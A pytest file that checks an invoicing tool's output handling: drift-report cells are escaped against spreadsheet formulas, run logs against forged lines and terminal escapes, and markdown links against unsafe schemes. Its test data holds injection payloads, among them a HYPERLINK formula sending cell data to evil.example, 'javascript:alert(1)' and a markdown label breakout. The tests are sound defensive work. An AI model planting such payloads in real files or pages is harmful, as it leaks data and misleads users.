"""Names that somebody else chose: in logs, in links, in files for spreadsheets."""

import io
import logging

import pytest

from invoicing.domain.model import markdown
from invoicing.ledger.models import DriftRow
from tasks.full_sync.drift_report import COLUMNS, listed

pytestmark = pytest.mark.parametrize("ledger_url", ["sqlite"], indirect=True)
FORGED = "Acme\nFailed: INV-1 was refunded\x1b[2K\u2028x"


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_a_drift_report_is_a_formula(start: str) -> None:
    """Whatever the systems say stands there as a text."""
    formula = f'{start}HYPERLINK("https://evil.example?"&A1)'
    said = {"name": formula, "stripe_says": formula, "salesforce_says": formula}
    found = {"run_id": "r", "subject": "in_1", "kind": "status", "outcome": formula}
    row = DriftRow.model_validate(found | said)
    cells = dict(zip(COLUMNS, listed(row), strict=True))
    assert [cells[name] for name in (*said, "outcome")] == ["'" + formula] * 4
    assert cells["kind"] == "status"


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize("logger", ["prefect.flow_runs", "prefect.task_runs"])
def test_a_name_begins_no_line_of_a_run_log(logger: str) -> None:
    """Nor does it move a terminal's cursor."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    log = logging.getLogger(logger)
    log.addHandler(handler)
    try:
        log.error("%s is busy: 100 %%", FORGED)
    finally:
        log.removeHandler(handler)
    said = r"Acme\nFailed: INV-1 was refunded\x1b[2K\u2028x is busy: 100 %"
    assert written.getvalue() == f"{said}\n"


@pytest.mark.usefixtures("ledger_url")
@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "//evil.example", "x y"]
)
def test_a_link_leads_to_the_web_or_nowhere(url: str) -> None:
    """What is none is shown as its label; a label ends where it should."""
    assert markdown.link("Acme", url) == "Acme"
    assert markdown.link("Acme](https://evil.example) [", "https://good.example/1") == (
        r"[Acme\](https://evil.example) \[](https://good.example/1)"
    )
